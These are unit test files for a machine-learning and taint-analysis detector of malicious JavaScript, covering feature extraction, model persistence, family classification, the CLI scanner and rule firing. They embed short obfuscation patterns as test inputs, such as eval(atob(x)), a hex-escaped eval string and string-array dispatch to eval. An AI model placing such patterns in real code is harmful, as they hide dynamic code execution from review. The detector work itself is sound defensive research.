    def test_regular_ast_mode_runs(self, small_split):
        detector = JSRevealer(fast_config(use_dataflow=False))
        detector.pretrain(small_split.pretrain.sources, small_split.pretrain.labels)
        detector.fit(small_split.train.sources, small_split.train.labels)
        predictions = detector.predict(small_split.test.sources)
        assert predictions.shape == (len(small_split.test),)

    def test_alternative_classifier(self, small_split):
        from repro.ml import LogisticRegression

        detector = JSRevealer(
            fast_config(classifier_factory=lambda: LogisticRegression(n_iter=800, learning_rate=0.5))
        )
        detector.pretrain(small_split.pretrain.sources, small_split.pretrain.labels)
        detector.fit(small_split.train.sources, small_split.train.labels)
        predictions = detector.predict(small_split.test.sources)
        assert accuracy(small_split.test.label_array, predictions) >= 0.7

    def test_explain_requires_importances(self, small_split):
        from repro.ml import LogisticRegression

        detector = JSRevealer(fast_config(classifier_factory=lambda: LogisticRegression(n_iter=50)))
        detector.pretrain(small_split.pretrain.sources, small_split.pretrain.labels)
        detector.fit(small_split.train.sources, small_split.train.labels)
        with pytest.raises(RuntimeError):
            detector.explain()
