"""Unit tests for cluster-based feature extraction."""

import numpy as np
import pytest

from repro.core import FeatureExtractor


def two_class_pools(rng, d=8, per=80):
    """Benign pool around one set of centers, malicious around another."""
    benign_centers = rng.normal(-2.0, 1.0, size=(3, d))
    malicious_centers = rng.normal(+2.0, 1.0, size=(3, d))
    benign = np.vstack([rng.normal(c, 0.3, size=(per, d)) for c in benign_centers])
    malicious = np.vstack([rng.normal(c, 0.3, size=(per, d)) for c in malicious_centers])
    return benign, malicious


class TestFit:
    def test_feature_count(self):
        rng = np.random.default_rng(0)
        benign, malicious = two_class_pools(rng)
        fx = FeatureExtractor(k_benign=3, k_malicious=3, seed=0).fit(benign, malicious)
        assert fx.n_features == 6
        labels = [f.label for f in fx.features_]
        assert labels.count("benign") == 3
        assert labels.count("malicious") == 3

    def test_overlap_removal(self):
        rng = np.random.default_rng(1)
        # Both classes drawn from the SAME tight cluster: full overlap.
        shared = rng.normal(0.0, 0.1, size=(200, 4))
        fx = FeatureExtractor(k_benign=1, k_malicious=1, overlap_threshold=1.0, seed=0)
        with pytest.raises(RuntimeError):
            fx.fit(shared[:100], shared[100:])
        assert fx.removed_overlaps_ == 2

    def test_no_overlap_keeps_everything(self):
        rng = np.random.default_rng(2)
        benign, malicious = two_class_pools(rng)
        fx = FeatureExtractor(k_benign=3, k_malicious=3, overlap_threshold=0.25, seed=0)
        fx.fit(benign, malicious)
        assert fx.removed_overlaps_ == 0

    def test_outliers_do_not_become_centers(self):
        rng = np.random.default_rng(3)
        benign, malicious = two_class_pools(rng)
        # Plant far-away outliers in the benign pool.
        benign = np.vstack([benign, rng.normal(0, 1, size=(5, benign.shape[1])) + 50.0])
        fx = FeatureExtractor(k_benign=3, k_malicious=3, contamination=0.05, seed=0)
        fx.fit(benign, malicious)
        for feature in fx.features_:
            assert np.linalg.norm(feature.center) < 30.0

    def test_signatures_attached(self):
        rng = np.random.default_rng(4)
        benign, malicious = two_class_pools(rng, per=30)
        benign_sigs = [f"b{i}" for i in range(len(benign))]
        malicious_sigs = [f"m{i}" for i in range(len(malicious))]
        fx = FeatureExtractor(k_benign=2, k_malicious=2, seed=0)
        fx.fit(benign, malicious, benign_sigs, malicious_sigs)
        assert all(f.central_path_signature for f in fx.features_)
        benign_feats = [f for f in fx.features_ if f.label == "benign"]
        assert all(f.central_path_signature.startswith("b") for f in benign_feats)

    def test_small_pools_skip_outlier_removal(self):
        rng = np.random.default_rng(5)
        benign = rng.normal(-1, 0.1, size=(5, 3))
        malicious = rng.normal(+1, 0.1, size=(5, 3))
        fx = FeatureExtractor(k_benign=2, k_malicious=2, seed=0).fit(benign, malicious)
        assert fx.n_features == 4

    def test_pool_subsampling(self):
        rng = np.random.default_rng(6)
        benign, malicious = two_class_pools(rng, per=100)
        fx = FeatureExtractor(k_benign=2, k_malicious=2, seed=0, max_pool_size=50)
        fx.fit(benign, malicious)
        assert fx.n_features == 4


class TestTransform:
    def fitted(self, seed=0):
        rng = np.random.default_rng(seed)
        benign, malicious = two_class_pools(rng)
        fx = FeatureExtractor(k_benign=3, k_malicious=3, seed=0).fit(benign, malicious)
        return fx, benign, malicious

    def test_hard_weights_aggregate_into_nearest_cluster(self):
        fx, benign, _ = self.fitted()
        fx.assignment = "hard"
        fx.assign_radius_factor = 100.0  # disable the membership cutoff
        vectors = benign[:4]
        weights = np.array([0.4, 0.3, 0.2, 0.1])
        out = fx.transform_script(vectors, weights)
        assert out.sum() == pytest.approx(1.0)
        benign_mass = sum(v for v, f in zip(out, fx.features_) if f.label == "benign")
        assert benign_mass == pytest.approx(1.0)

    def test_hard_membership_cutoff_drops_alien_paths(self):
        fx, benign, _ = self.fitted()
        fx.assignment = "hard"
        fx.assign_radius_factor = 1.0
        alien = benign[:3] + 100.0  # far outside every cluster radius
        out = fx.transform_script(alien, np.full(3, 1 / 3))
        assert out.sum() == pytest.approx(0.0)

    def test_soft_assignment_spreads_but_conserves_mass(self):
        fx, benign, _ = self.fitted()
        fx.assignment = "soft"
        vectors = benign[:4]
        weights = np.array([0.4, 0.3, 0.2, 0.1])
        out = fx.transform_script(vectors, weights)
        assert out.sum() == pytest.approx(1.0)  # responsibilities sum to 1
        # In-cluster paths still put most mass on benign clusters.
        benign_mass = sum(v for v, f in zip(out, fx.features_) if f.label == "benign")
        assert benign_mass > 0.6

    def test_soft_assignment_conserves_mass_for_alien_paths(self):
        fx, benign, _ = self.fitted()
        fx.assignment = "soft"
        alien = benign[:1] + 1000.0
        out = fx.transform_script(alien, np.ones(1))
        # Soft responsibilities always sum to the path weight: alien paths
        # are assigned (to their least-distant cluster), never dropped.
        assert out.sum() == pytest.approx(1.0)

    def test_equidistant_paths_spread_over_clusters(self):
        fx, benign, malicious = self.fitted()
        fx.assignment = "soft"
        centers = np.vstack([f.center for f in fx.features_])
        midpoint = centers.mean(axis=0, keepdims=True)
        out = fx.transform_script(midpoint, np.ones(1))
        # A point between clusters must not give all mass to one feature
        # unless one cluster is overwhelmingly closest.
        assert out.sum() == pytest.approx(1.0)

    def test_empty_script_is_zero_vector(self):
        fx, _, _ = self.fitted()
        out = fx.transform_script(np.zeros((0, 8)), np.zeros(0))
        assert np.all(out == 0.0)

    def test_transform_normalizes_per_script(self):
        fx, benign, malicious = self.fitted()
        scripts = [
            (benign[:10], np.full(10, 0.1)),
            (malicious[:5], np.full(5, 0.2)),
            (np.vstack([benign[:2], malicious[:2]]), np.full(4, 0.25)),
        ]
        X = fx.transform(scripts, fit_scaler=True)
        assert X.shape == (3, fx.n_features)
        assert X.min() >= 0.0 and X.max() <= 1.0
        # Eq. 6 normalizes per script: every non-constant row spans [0, 1].
        for row in X:
            assert row.max() == pytest.approx(1.0)
            assert row.min() == pytest.approx(0.0)

    def test_benign_and_malicious_scripts_separate(self):
        fx, benign, malicious = self.fitted()
        b_feat = fx.transform_script(benign[:20], np.full(20, 0.05))
        m_feat = fx.transform_script(malicious[:20], np.full(20, 0.05))
        benign_idx = [i for i, f in enumerate(fx.features_) if f.label == "benign"]
        assert b_feat[benign_idx].sum() > m_feat[benign_idx].sum()

    def test_unfit_transform_raises(self):
        fx = FeatureExtractor()
        with pytest.raises(RuntimeError):
            fx.transform_script(np.zeros((1, 8)), np.ones(1))
