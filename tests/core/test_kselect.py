"""Unit tests for elbow-method K selection."""

import numpy as np
import pytest

from repro.core import elbow_curve, find_elbow


class TestFindElbow:
    def test_clear_elbow_detected(self):
        # Sharp drop until K=4, flat afterwards.
        k = list(range(1, 11))
        sse = [1000, 600, 300, 100, 90, 82, 76, 71, 67, 64]
        assert find_elbow(k, sse) == 4

    def test_linear_curve_has_no_strong_elbow(self):
        k = list(range(1, 8))
        sse = [700 - 100 * i for i in range(7)]
        # Degenerate: any answer is acceptable, but must be within range.
        result = find_elbow(k, sse)
        assert k[0] <= result <= k[-1]

    def test_requires_three_points(self):
        with pytest.raises(ValueError):
            find_elbow([1, 2], [10, 5])

    def test_mismatched_lengths(self):
        with pytest.raises(ValueError):
            find_elbow([1, 2, 3], [10, 5])


class TestElbowCurve:
    def test_curve_on_clustered_data(self):
        rng = np.random.default_rng(0)
        centers = np.array([[0.0, 0.0], [10.0, 0.0], [0.0, 10.0], [10.0, 10.0]])
        X = np.vstack([rng.normal(c, 0.4, size=(40, 2)) for c in centers])
        result = elbow_curve(X, k_values=range(1, 10), seed=0)
        assert len(result.sse) == 9
        # SSE decreasing.
        assert all(a >= b - 1e-6 for a, b in zip(result.sse, result.sse[1:]))
        # Four true clusters -> elbow at (or near) 4.
        assert 3 <= result.elbow_k <= 5

    def test_plain_kmeans_variant(self):
        rng = np.random.default_rng(1)
        X = rng.normal(size=(60, 3))
        result = elbow_curve(X, k_values=range(1, 6), seed=0, bisecting=False)
        assert len(result.k_values) == 5
