"""Unit tests for family classification, persistence, and the CLI."""

import numpy as np
import pytest

from repro.core import (
    FamilyClassifier,
    JSRevealer,
    JSRevealerConfig,
    load_detector,
    save_detector,
)
from repro.datasets import experiment_split


@pytest.fixture(scope="module")
def split():
    return experiment_split(seed=21, pretrain_per_class=10, train_per_class=24, test_per_class=12, realistic=True)


@pytest.fixture(scope="module")
def detector(split):
    det = JSRevealer(JSRevealerConfig(embed_dim=24, pretrain_epochs=5, k_benign=5, k_malicious=5, seed=21))
    det.pretrain(split.pretrain.sources, split.pretrain.labels)
    det.fit(split.train.sources, split.train.labels)
    return det


class TestPersistence:
    def test_roundtrip_predictions_identical(self, detector, split, tmp_path):
        save_detector(detector, tmp_path / "model")
        loaded = load_detector(tmp_path / "model")
        original = detector.predict(split.test.sources)
        restored = loaded.predict(split.test.sources)
        assert np.array_equal(original, restored)

    def test_roundtrip_probabilities_close(self, detector, split, tmp_path):
        save_detector(detector, tmp_path / "m2")
        loaded = load_detector(tmp_path / "m2")
        assert np.allclose(
            detector.predict_proba(split.test.sources[:5]),
            loaded.predict_proba(split.test.sources[:5]),
        )

    def test_explanations_survive(self, detector, tmp_path):
        save_detector(detector, tmp_path / "m3")
        loaded = load_detector(tmp_path / "m3")
        original = detector.explain(top_n=3)
        restored = loaded.explain(top_n=3)
        assert [e.central_path_signature for e in original] == [e.central_path_signature for e in restored]

    def test_unfitted_detector_rejected(self, tmp_path):
        with pytest.raises(ValueError):
            save_detector(JSRevealer(JSRevealerConfig()), tmp_path / "nope")

    def test_version_gate(self, detector, tmp_path):
        import json

        save_detector(detector, tmp_path / "m4")
        meta_path = tmp_path / "m4" / "model.json"
        meta = json.loads(meta_path.read_text())
        meta["format_version"] = 999
        meta_path.write_text(json.dumps(meta))
        with pytest.raises(ValueError):
            load_detector(tmp_path / "m4")

    def test_fingerprint_stored_and_roundtrips(self, detector, tmp_path):
        import json

        save_detector(detector, tmp_path / "m5")
        meta = json.loads((tmp_path / "m5" / "model.json").read_text())
        assert meta["format_version"] == 2
        assert meta["model_fingerprint"] == detector.fingerprint()
        assert load_detector(tmp_path / "m5").fingerprint() == detector.fingerprint()

    def test_version1_model_loads_with_derived_fingerprint(self, detector, split, tmp_path):
        import json

        save_detector(detector, tmp_path / "m6")
        meta_path = tmp_path / "m6" / "model.json"
        meta = json.loads(meta_path.read_text())
        meta["format_version"] = 1
        del meta["model_fingerprint"]
        meta_path.write_text(json.dumps(meta))

        loaded = load_detector(tmp_path / "m6")
        assert loaded.fingerprint() == detector.fingerprint()
        assert np.array_equal(loaded.predict(split.test.sources[:4]), detector.predict(split.test.sources[:4]))

    def test_tampered_fingerprint_rejected(self, detector, tmp_path):
        import json

        save_detector(detector, tmp_path / "m7")
        meta_path = tmp_path / "m7" / "model.json"
        meta = json.loads(meta_path.read_text())
        meta["model_fingerprint"] = "0" * 64
        meta_path.write_text(json.dumps(meta))
        with pytest.raises(ValueError):
            load_detector(tmp_path / "m7")


class TestFamilyClassifier:
    def _malicious(self, corpus):
        sources = [s for s, y in zip(corpus.sources, corpus.labels) if y == 1]
        families = [f.split(":")[1] for f, y in zip(corpus.families, corpus.labels) if y == 1]
        return sources, families

    def test_learns_families(self, detector, split):
        train_src, train_fam = self._malicious(split.train)
        test_src, test_fam = self._malicious(split.test)
        classifier = FamilyClassifier(detector, seed=0).fit(train_src, train_fam)
        predictions = classifier.predict(test_src)
        agreement = sum(p == t for p, t in zip(predictions, test_fam)) / len(test_fam)
        assert agreement >= 0.5  # well above the 1/6 chance level

    def test_evaluate_reports_all_families(self, detector, split):
        train_src, train_fam = self._malicious(split.train)
        classifier = FamilyClassifier(detector, seed=0).fit(train_src, train_fam)
        reports = classifier.evaluate(train_src, train_fam)
        assert {r.family for r in reports} == set(classifier.families_)
        assert all(0.0 <= r.precision <= 1.0 and 0.0 <= r.recall <= 1.0 for r in reports)

    def test_proba_shape(self, detector, split):
        train_src, train_fam = self._malicious(split.train)
        classifier = FamilyClassifier(detector, seed=0).fit(train_src, train_fam)
        proba = classifier.predict_proba(train_src[:3])
        assert proba.shape == (3, len(classifier.families_))

    def test_requires_fitted_detector(self):
        with pytest.raises(ValueError):
            FamilyClassifier(JSRevealer(JSRevealerConfig()))

    def test_unfit_predict_rejected(self, detector):
        with pytest.raises(RuntimeError):
            FamilyClassifier(detector).predict(["var x = 1;"])


class TestCLI:
    def test_train_scan_explain_flow(self, tmp_path, monkeypatch):
        from repro.cli import main

        model_dir = tmp_path / "model"
        code = main(
            [
                "train",
                "--out",
                str(model_dir),
                "--train-per-class",
                "14",
                "--pretrain-per-class",
                "8",
                "--embed-dim",
                "16",
                "--epochs",
                "3",
                "--k-benign",
                "4",
                "--k-malicious",
                "4",
            ]
        )
        assert code == 0
        assert (model_dir / "model.npz").exists()

        from repro.datasets import generate_benign

        target = tmp_path / "site"
        target.mkdir()
        (target / "app.js").write_text(generate_benign(np.random.default_rng(0)))
        scan_code = main(["scan", "--model", str(model_dir), str(target)])
        assert scan_code in (0, 1)

        assert main(["explain", "--model", str(model_dir), "--top", "3"]) == 0

    def test_scan_json_format_and_cache(self, tmp_path, capsys):
        import json

        from repro.cli import main
        from repro.datasets import generate_benign, generate_malicious

        model_dir = tmp_path / "model"
        main(
            ["train", "--out", str(model_dir), "--train-per-class", "14",
             "--pretrain-per-class", "8", "--embed-dim", "16", "--epochs", "3",
             "--k-benign", "4", "--k-malicious", "4"]
        )
        target = tmp_path / "site"
        target.mkdir()
        (target / "app.js").write_text(generate_benign(np.random.default_rng(1)))
        (target / "dropper.js").write_text(generate_malicious(np.random.default_rng(2)))
        cache_dir = tmp_path / "cache"
        capsys.readouterr()  # drop train output

        args = ["scan", "--model", str(model_dir), "--format", "json",
                "--cache-dir", str(cache_dir), "--workers", "2", str(target)]
        code_cold = main(args)
        cold = json.loads(capsys.readouterr().out)
        code_warm = main(args)
        warm = json.loads(capsys.readouterr().out)

        # Golden JSON shape: one ScanReport object.
        for report in (cold, warm):
            assert set(report) >= {
                "n_files", "n_malicious", "threshold", "n_workers", "workers_used",
                "elapsed_ms", "stage_ms", "cache_hits", "cache_misses",
                "model_fingerprint", "results",
            }
            assert report["n_files"] == 2
            assert len(report["results"]) == 2
            for result in report["results"]:
                assert result["verdict"] in ("benign", "malicious")
                assert 0.0 <= result["probability"] <= 1.0
                assert result["path"].endswith(".js")
        assert cold["cache_hits"] == 0
        assert warm["cache_hits"] == 2
        assert all(r["cache_hit"] for r in warm["results"])
        # Verdicts and probabilities are identical cold vs cached.
        assert [r["probability"] for r in cold["results"]] == [r["probability"] for r in warm["results"]]
        assert code_cold == code_warm

        # explain --format json emits a parseable ranked feature list.
        assert main(["explain", "--model", str(model_dir), "--top", "3", "--format", "json"]) == 0
        explain = json.loads(capsys.readouterr().out)
        assert len(explain) == 3
        assert all({"importance", "cluster_label", "central_path_signature", "cluster_size"} <= set(e) for e in explain)

    def test_scan_missing_input(self, tmp_path):
        from repro.cli import main

        # Empty input directory and absent model both fall under the
        # usage/IO leg of the exit-code contract: 2, not a traceback.
        assert main(["scan", "--model", str(tmp_path / "absent"), str(tmp_path)]) == 2
