"""Unit and golden-witness tests for the interprocedural taint engine.

Three layers: the lattice primitives (join/prune/witness caps), the
call-graph builder (what resolves, what deliberately does not), the
engine itself (flows with exact hop sequences), and one golden
witness-path test per engine-backed flow rule in the default catalog.
"""

from pathlib import Path

import pytest

from repro.analysis import Analyzer, analyze_source
from repro.analysis.dataflow import (
    MAX_TAINTS_PER_LABEL,
    MAX_WITNESS_HOPS,
    Hop,
    Taint,
    build_call_graph,
    extend,
    extend_hops,
    fresh,
    join,
    run_taint,
    witness_dicts,
)
from repro.analysis.dataflow.catalog import is_hexsoup_literal, is_string_array
from repro.jsparser import parse
from repro.jsparser.scope import analyze_scopes

EXAMPLES = Path(__file__).resolve().parents[2] / "examples"

#: A literal that trips the escape-density hex-soup predicate.
HEXSOUP = r'"\x65\x76\x61\x6c\x28\x31\x29"'


def taint_result(source, **kwargs):
    return run_taint(parse(source), **kwargs)


def flows_of(source, **kwargs):
    result = taint_result(source, **kwargs)
    assert not result.degraded, result.error
    return result.flows


def ops(flow):
    return [hop.op for hop in flow.hops]


# --------------------------------------------------------------- lattice


class TestLattice:
    def test_join_is_union(self):
        a = frozenset({fresh("decode", 1, 0)})
        b = frozenset({fresh("xhr", 2, 0)})
        assert join(a, b) == a | b

    def test_join_prunes_to_shortest_witnesses_per_label(self):
        taints = []
        for n in range(2, 2 + MAX_TAINTS_PER_LABEL + 3):
            taint = fresh("decode", 1, 0)
            for i in range(n):
                taint = Taint("decode", extend_hops(taint.hops, Hop(1 + i, 0, "concat")))
            taints.append(taint)
        joined = join(frozenset(taints))
        assert len(joined) == MAX_TAINTS_PER_LABEL
        kept = sorted(len(t.hops) for t in joined)
        shortest = sorted(len(t.hops) for t in taints)[:MAX_TAINTS_PER_LABEL]
        assert kept == shortest

    def test_extend_appends_hop_to_every_taint(self):
        taints = frozenset({fresh("decode", 1, 0), fresh("xhr", 2, 0)})
        hop = Hop(3, 0, "concat")
        extended = extend(taints, hop)
        assert all(t.hops[-1] == hop for t in extended)

    def test_extend_hops_caps_at_max(self):
        hops: tuple[Hop, ...] = ()
        for i in range(MAX_WITNESS_HOPS + 5):
            hops = extend_hops(hops, Hop(i, 0, "concat"))
        assert len(hops) == MAX_WITNESS_HOPS

    def test_extend_hops_skips_duplicate_last(self):
        hop = Hop(1, 0, "concat")
        assert extend_hops((hop,), hop) == (hop,)

    def test_witness_dicts_carry_snippets(self):
        hops = (Hop(1, 4, "source:decode"), Hop(2, 0, "sink:eval"))
        dicts = witness_dicts(hops, ["var p = atob(x);", "eval(p);"])
        assert [d["op"] for d in dicts] == ["source:decode", "sink:eval"]
        assert dicts[0]["snippet"] == "var p = atob(x);"
        assert dicts[1]["line"] == 2


class TestCatalogPredicates:
    def test_hexsoup_by_escape_density(self):
        node = parse(f"var s = {HEXSOUP};").body[0].declarations[0].init
        assert is_hexsoup_literal(node)

    def test_plain_literal_is_not_hexsoup(self):
        node = parse('var s = "hello world";').body[0].declarations[0].init
        assert not is_hexsoup_literal(node)

    def test_string_array_needs_four_string_elements(self):
        table = parse('var a = ["x", "y", "z", "w"];').body[0].declarations[0].init
        short = parse('var a = ["x", "y"];').body[0].declarations[0].init
        mixed = parse('var a = ["x", "y", "z", 4];').body[0].declarations[0].init
        assert is_string_array(table)
        assert not is_string_array(short)
        assert not is_string_array(mixed)


# ------------------------------------------------------------- call graph


class TestCallGraph:
    def build(self, source):
        program = parse(source)
        return build_call_graph(program, analyze_scopes(program))

    def test_direct_call_to_declaration(self):
        graph = self.build("function f() {}\nf();")
        assert graph.n_edges == 1

    def test_function_expression_bound_to_name(self):
        graph = self.build("var f = function () {};\nf();")
        assert graph.n_edges == 1

    def test_assignment_bound_function(self):
        graph = self.build("var f;\nf = function () {};\nf();")
        assert graph.n_edges == 1

    def test_iife_resolves_to_its_own_callee(self):
        graph = self.build("(function () {})();")
        assert graph.n_edges == 1

    def test_method_calls_stay_unresolved(self):
        graph = self.build("var o = { m: function () {} };\no.m();")
        assert graph.n_edges == 0

    def test_rebinding_keeps_every_candidate(self):
        graph = self.build(
            "var f = function () {};\nf = function () {};\nf();"
        )
        assert graph.n_edges == 2  # may-analysis: both candidates kept


# ----------------------------------------------------------------- engine


class TestEngineFlows:
    def test_direct_decode_to_eval(self):
        flows = flows_of("eval(atob(x));")
        assert any(f.kind == "eval" and f.label == "decode" for f in flows)

    def test_variable_hop_witness_order(self):
        flows = flows_of("var p = atob(x);\neval(p);")
        flow = next(f for f in flows if f.kind == "eval" and f.label == "decode")
        assert ops(flow) == ["source:decode", "assign:p", "sink:eval"]
        lines = [hop.line for hop in flow.hops]
        assert lines == sorted(lines)  # source before sink

    def test_interprocedural_return_flow(self):
        flows = flows_of("function d(x) { return atob(x); }\nvar out = d(s);\neval(out);")
        flow = next(f for f in flows if f.kind == "eval")
        assert "return" in ops(flow) and "call:d" in ops(flow)

    def test_arg_to_param_flow(self):
        flows = flows_of("function run(code) { eval(code); }\nrun(atob(x));")
        flow = next(f for f in flows if f.kind == "eval")
        assert any(op.startswith("arg:") for op in ops(flow))

    def test_concat_propagates(self):
        flows = flows_of('var p = "a" + atob(x);\neval(p);')
        assert any(f.kind == "eval" and f.label == "decode" for f in flows)

    def test_sanitizer_kills_taint(self):
        assert flows_of("var n = parseInt(atob(x));\neval(n);") == []

    def test_length_read_is_clean(self):
        assert flows_of("var n = atob(x).length;\neval(n);") == []

    def test_timer_second_arg_is_not_a_sink(self):
        flows = flows_of("setTimeout(f, atob(x));")
        assert not any(f.kind == "timer" for f in flows)

    def test_string_array_seed_reaches_dispatch(self):
        flows = flows_of(
            'var a = ["e", "v", "a", "l"];\nwindow[a[0] + a[1]]("x");'
        )
        assert any(f.kind == "dynamic-dispatch" and f.label == "string-array" for f in flows)

    def test_every_flow_ends_with_sink_hop(self):
        flows = flows_of("var p = atob(x);\neval(p);\ndocument.write(unescape(y));")
        assert flows
        for flow in flows:
            assert flow.hops[-1].op == f"sink:{flow.kind}"
            assert flow.hops[0].op.startswith("source:")

    def test_budget_exhaustion_degrades_not_raises(self):
        lines = ["var a0 = atob(x);"]
        lines += [f"var a{i} = a{i - 1} + a{i - 1};" for i in range(1, 200)]
        lines.append("eval(a199);")
        result = taint_result("\n".join(lines), max_transfers=50)
        assert result.budget_exhausted
        assert result.transfers <= 50 + 10  # checked per statement

    def test_run_taint_never_raises_on_junk_ast(self):
        result = run_taint(None)  # type: ignore[arg-type]
        assert result.degraded and result.error

    def test_context_depth_bounds_revisits(self):
        source = "function f(x) { return f(atob(x)); }\neval(f(s));"
        shallow = taint_result(source, context_depth=0)
        assert not shallow.degraded  # terminates promptly even on recursion


# --------------------------------------------- golden witness paths (rules)


def finding_for(source, rule_id, **analyzer_kwargs):
    report = Analyzer(**analyzer_kwargs).analyze(source, "t.js")
    matches = [f for f in report.findings if f.rule_id == rule_id]
    assert matches, (
        f"expected {rule_id} to fire; got "
        f"{sorted({f.rule_id for f in report.findings})}"
    )
    return matches[0]


class TestGoldenWitnessPaths:
    def test_decode_chain(self):
        finding = finding_for("var p = atob(x);\neval(p);", "decode-chain")
        assert finding.decisive
        assert [h["op"] for h in finding.witness] == [
            "source:decode",
            "assign:p",
            "sink:eval",
        ]
        assert finding.witness[0]["line"] == 1
        assert finding.witness[-1]["line"] == 2

    def test_decode_to_timer(self):
        finding = finding_for(
            "var p = unescape(x);\nsetTimeout(p, 100);", "flow-decode-to-timer"
        )
        assert finding.decisive
        assert finding.witness[-1]["op"] == "sink:timer"

    def test_decode_to_write(self):
        finding = finding_for("document.write(atob(x));", "flow-decode-to-write")
        assert finding.witness[0]["op"] == "source:decode"
        assert finding.witness[-1]["op"] == "sink:document-write"

    def test_hexsoup_to_sink(self):
        finding = finding_for(
            f"var s = {HEXSOUP};\neval(s);", "flow-hexsoup-to-sink"
        )
        assert finding.decisive
        assert finding.witness[0]["op"] == "source:hexsoup"
        assert finding.witness[-1]["op"] == "sink:eval"

    def test_location_to_eval_is_not_decisive(self):
        finding = finding_for("eval(location.hash);", "flow-location-to-eval")
        assert not finding.decisive and finding.severity == "error"
        assert finding.witness[0]["op"] == "source:location"

    def test_xhr_to_eval(self):
        finding = finding_for(
            "var body = xhr.responseText;\neval(body);", "flow-xhr-to-eval"
        )
        assert finding.decisive
        assert [h["op"] for h in finding.witness] == [
            "source:xhr",
            "assign:body",
            "sink:eval",
        ]

    def test_tainted_innerhtml(self):
        finding = finding_for(
            "el.innerHTML = atob(x);", "flow-tainted-innerhtml"
        )
        assert finding.severity == "warning" and not finding.decisive
        assert finding.witness[-1]["op"] == "sink:innerhtml"

    def test_tainted_src(self):
        finding = finding_for("img.src = location.hash;", "flow-tainted-src")
        assert finding.witness[-1]["op"] == "sink:element-src"

    def test_tainted_dispatch(self):
        finding = finding_for(
            'var a = ["e", "v", "a", "l"];\nwindow[a[0] + a[1]]("x");',
            "flow-tainted-dispatch",
        )
        assert finding.decisive
        assert finding.witness[0]["op"] == "source:string-array"
        assert finding.witness[-1]["op"] == "sink:dynamic-dispatch"

    def test_witness_round_trips_through_json(self):
        from repro.analysis import AnalysisReport

        report = analyze_source("var p = atob(x);\neval(p);")
        revived = AnalysisReport.from_dict(report.to_dict())
        original = [f for f in report.findings if f.witness]
        round_tripped = [f for f in revived.findings if f.witness]
        assert original and len(original) == len(round_tripped)
        for a, b in zip(original, round_tripped):
            assert a.witness == b.witness


class TestAcceptance:
    """ISSUE 8's headline: the engine sees through obfuscator.io dispatch."""

    def test_obfuscator_io_flow_found_only_by_dataflow(self):
        from repro.analysis import legacy_rules

        source = (EXAMPLES / "obfuscated" / "obfuscator_io.js").read_text()
        legacy = Analyzer(rules=legacy_rules()).analyze(source, "obf.js")
        assert not legacy.decisive  # the PR 3 catalog misses it
        report = analyze_source(source)
        dispatch = [f for f in report.findings if f.rule_id == "flow-tainted-dispatch"]
        assert report.decisive and dispatch
        for finding in dispatch:
            assert finding.witness[0]["op"].startswith("source:")
            assert finding.witness[-1]["op"] == "sink:dynamic-dispatch"


# ------------------------------------------------------------- suppression


class TestWitnessSuppression:
    def test_directive_on_sink_line_silences_flow(self):
        report = analyze_source(
            "var p = atob(x);\neval(p); // repro-ignore: decode-chain\n"
        )
        assert not any(f.rule_id == "decode-chain" for f in report.findings)
        assert {"rule_id": "decode-chain", "line": 2} in report.suppressed_at

    def test_directive_on_source_line_silences_flow(self):
        report = analyze_source(
            "var p = atob(x); // repro-ignore: decode-chain\neval(p);\n"
        )
        assert not any(f.rule_id == "decode-chain" for f in report.findings)
        assert {"rule_id": "decode-chain", "line": 1} in report.suppressed_at

    def test_unrelated_line_does_not_suppress(self):
        report = analyze_source(
            "// repro-ignore: decode-chain\nvar q = 1;\nvar p = atob(x);\neval(p);\n"
        )
        assert any(f.rule_id == "decode-chain" for f in report.findings)

    def test_suppressed_at_round_trips(self):
        from repro.analysis import AnalysisReport

        report = analyze_source("eval(atob(x)); // repro-ignore: decode-chain\n")
        revived = AnalysisReport.from_dict(report.to_dict())
        assert revived.suppressed_at == report.suppressed_at
        assert revived.suppressed == report.suppressed

    def test_raw_directive_survives_normalization(self):
        # Normalization drops comments, so a directive in the submitted
        # file must be lexed from the raw text and matched against the
        # mapped-back raw_line spans of the normalized findings.
        from repro.deobfuscate import Deobfuscator

        raw = (
            'var p = window["at" + "ob"](x);\n'
            "eval(p); // repro-ignore: decode-chain\n"
        )
        normalized, norm = Deobfuscator().normalize(raw)
        assert norm.changed and "//" not in normalized  # the comment is gone
        report = Analyzer().analyze(
            normalized, line_map=norm.line_map, raw_source=raw
        )
        assert not any(f.rule_id == "decode-chain" for f in report.findings)
        assert not report.decisive  # refolded over the survivors
        assert {"rule_id": "decode-chain", "line": 2} in report.suppressed_at

    def test_raw_directive_ignored_without_raw_source(self):
        from repro.deobfuscate import Deobfuscator

        raw = (
            'var p = window["at" + "ob"](x);\n'
            "eval(p); // repro-ignore: decode-chain\n"
        )
        normalized, norm = Deobfuscator().normalize(raw)
        report = Analyzer().analyze(normalized, line_map=norm.line_map)
        assert any(f.rule_id == "decode-chain" and f.decisive for f in report.findings)


# ------------------------------------------------------------ degradation


class TestNeverRaises:
    @pytest.mark.parametrize(
        "source",
        [
            "",
            "var x;",
            "function f() { return f(); }\nf();",
            "with (o) { eval(p); }",
            "var " + " = ".join(f"v{i}" for i in range(3)) + " = atob(x); eval(v0);",
        ],
    )
    def test_engine_handles_odd_shapes(self, source):
        result = taint_result(source)
        assert result.error == "" or result.degraded
