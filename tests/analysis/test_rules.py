"""Unit tests: one class per built-in rule, positive and negative cases."""

from repro.analysis import analyze_source, default_rules


def rule_ids(source: str) -> list[str]:
    return [f.rule_id for f in analyze_source(source).findings]


def findings_for(source: str, rule_id: str):
    return [f for f in analyze_source(source).findings if f.rule_id == rule_id]


class TestCatalog:
    def test_at_least_ten_distinct_rules(self):
        rules = default_rules()
        ids = {rule.id for rule in rules}
        assert len(ids) == len(rules) >= 10

    def test_every_rule_documented(self):
        for rule in default_rules():
            assert rule.description, rule.id
            assert rule.severity in ("info", "warning", "error"), rule.id


class TestDynamicEval:
    def test_eval_call(self):
        (f,) = findings_for("eval('1 + 1');", "dynamic-eval")
        assert f.severity == "error"
        assert f.line == 1

    def test_function_constructor(self):
        assert findings_for("var f = new Function('return 1');", "dynamic-eval")

    def test_window_eval_alias(self):
        assert findings_for("window.eval('x');", "dynamic-eval")

    def test_plain_call_clean(self):
        assert not findings_for("parseInt('42');", "dynamic-eval")

    def test_local_eval_shadow_still_flagged(self):
        # Conservative: the rule is syntactic, shadowing does not silence it.
        assert findings_for("function f(eval) { eval('x'); }", "dynamic-eval")


class TestTimerStringArg:
    def test_settimeout_string(self):
        (f,) = findings_for("setTimeout('doEvil()', 100);", "timer-string-arg")
        assert f.severity == "error"

    def test_setinterval_concat(self):
